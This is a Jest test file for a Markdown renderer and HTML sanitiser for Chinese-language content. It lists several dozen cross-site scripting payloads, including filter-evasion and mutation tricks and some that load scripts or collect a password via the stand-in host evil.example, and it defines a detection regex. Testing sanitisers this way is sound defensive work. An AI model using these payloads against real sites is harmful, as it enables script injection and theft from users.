/** @jest-environment jsdom */
import { renderMarkdown } from './renderMarkdown';
import { sanitise } from './sanitise';

/** Markup that a browser would act on, in any surroundings. */
const DANGER =
  /<(script|style|svg|math|iframe|object|embed|form|input|base|meta|link|template|textarea|xmp)|\son\w+\s*=|javascript:|vbscript:|data:|srcdoc|style=|src="(?!\/[^/\\])/i;

const attacks: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in capitals', '<ScRiPt src=//evil.example/x.js></sCrIpT>'],
  ['an unclosed script', '<script>alert(1)'],
  ['a nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['an event handler', '<p onclick="alert(1)">x</p>'],
  ['an image that fails', '<img src=x onerror=alert(1)>'],
  ['an image whose handler follows a slash', '<img/src=x/onerror=alert(1)>'],
  ['an image of another site', '<img src="https://evil.example/pixel.gif">'],
  ['an image of another site without a scheme', '<img src="//evil.example/pixel.gif">'],
  ['an image of another site by backslash', '<img src="/\\evil.example/pixel.gif">'],
  ['an image of another site by tab', '<img src="/&#9;/evil.example/pixel.gif">'],
  ['an image as data', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['a javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['a javascript link in disguise', '<a href=" jAvA&#x09;script&colon;alert(1)">x</a>'],
  ['a javascript link with a line break', '<a href="java\nscript:alert(1)">x</a>'],
  ['a data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['an svg', '<svg><script>alert(1)</script></svg>'],
  ['an svg that loads', '<svg/onload=alert(1)>'],
  [
    'an svg that animates a link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) />',
  ],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>'],
  ['a style', '<style>@import "//evil.example/x.css";</style>'],
  ['a style attribute', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a form', '<form action="https://evil.example"><input name=password></form>'],
  ['a base', '<base href="https://evil.example/">'],
  ['a redirect', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['a textarea that ends', '<textarea></textarea/><img src=x onerror=alert(1)></textarea>'],
  ['an xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['a noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a comment', '<!--><img src=x onerror=alert(1)>-->'],
  ['a quote that does not end', '<p title="x><img src=x onerror=alert(1)>">'],
  ['a tag that does not end', '<img src=x onerror=alert(1) '],
];

const page = (html: string) => {
  document.body.innerHTML = html;
  return [...document.body.querySelectorAll('*')];
};

describe.each([
  ['as HTML at rest', sanitise],
  ['typed into Markdown', renderMarkdown],
])('%s', (_name, clean) => {
  it.each(attacks)('%s does nothing', (_what, attack) => {
    const html = clean(`<p>前</p>\n\n${attack}\n\n<p>後</p>`);
    // Markdown shows a tag as typed, so only what a browser takes for markup counts.
    for (const element of page(html)) {
      const shell = element.cloneNode(false);
      expect(new XMLSerializer().serializeToString(shell)).not.toMatch(DANGER);
    }
    expect(html).toContain('前');
  });
});

describe('Markdown', () => {
  it.each([
    ['[x](javascript:alert(1))', 'href'],
    ['[x](jAvAsCrIpT:alert(1))', 'href'],
    ['[x](data:text/html;base64,PHNjcmlwdD4=)', 'href'],
    ['[x](//evil.example)', 'href="/'],
    ['![x](https://evil.example/a.png)', '<img'],
    ['![x](data:image/png;base64,iVBORw0KGgo=)', '<img'],
    ['<javascript:alert(1)>', '<a'],
  ])('%s leaves no %s', (text, part) => {
    expect(renderMarkdown(text)).not.toContain(part);
  });

  it('shows HTML as it was typed', () => {
    expect(renderMarkdown('用 <b>粗體</b> & 小於 <')).toBe(
      '<p>用 &lt;b&gt;粗體&lt;/b&gt; &amp; 小於 &lt;</p>\n',
    );
  });

  it('has headings below the page title, lists, quotes, tables and line breaks', () => {
    expect(renderMarkdown('# 一')).toBe('<h2>一</h2>\n');
    expect(renderMarkdown('### 三')).toBe('<h3>三</h3>\n');
    expect(renderMarkdown('- 甲\n- 乙')).toBe('<ul>\n<li>甲</li>\n<li>乙</li>\n</ul>\n');
    expect(renderMarkdown('3. 甲')).toBe('<ol start="3">\n<li>甲</li>\n</ol>\n');
    expect(renderMarkdown('> 引')).toBe('<blockquote>\n<p>引</p>\n</blockquote>\n');
    expect(renderMarkdown('|a|b|\n|-|-|\n|1|2|')).toContain('<td>2</td>');
    expect(renderMarkdown('上\n下')).toBe('<p>上<br />\n下</p>\n');
  });

  it.each([
    ['**時間：**即日起', '<strong>時間：</strong>即日起'],
    ['請按**「確認」**後送出', '請按<strong>「確認」</strong>後送出'],
    ['這是*重點*喔', '這是<em>重點</em>喔'],
    ['~~原價 100~~特價', '<s>原價 100</s>特價'],
    ['**𠮷野：**開店', '<strong>𠮷野：</strong>開店'],
    ['2 * 3 * 4 與 ** 兩顆星 **', '2 * 3 * 4 與 ** 兩顆星 **'],
    ['snake_case_name', 'snake_case_name'],
  ])('marks Chinese without spaces: %s', (text, html) => {
    expect(renderMarkdown(text)).toBe(`<p>${html}</p>\n`);
  });

  it('keeps links here in the page, and sends others to a window of their own', () => {
    expect(renderMarkdown('[商城](/shop?q=茶)')).toBe(
      '<p><a href="/shop?q=%E8%8C%B6">商城</a></p>\n',
    );
    expect(renderMarkdown('[外](https://example.com/a)')).toBe(
      '<p><a href="https://example.com/a" target="_blank" rel="noopener noreferrer">外</a></p>\n',
    );
    expect(renderMarkdown('![茶席](/covers/tea.svg)')).toBe(
      '<p><img src="/covers/tea.svg" alt="茶席" loading="lazy" /></p>\n',
    );
  });

  it('answers a hostile text of full length at once', () => {
    const started = performance.now();
    for (const unit of ['**', '[', '![](', '> ', '- ', '|a', '~~a', '*a_', '\\<']) {
      renderMarkdown(unit.repeat(20_000 / unit.length));
    }
    // Backtracking would take minutes; a busy machine must not make this red.
    expect(performance.now() - started).toBeLessThan(30_000);
  });
});
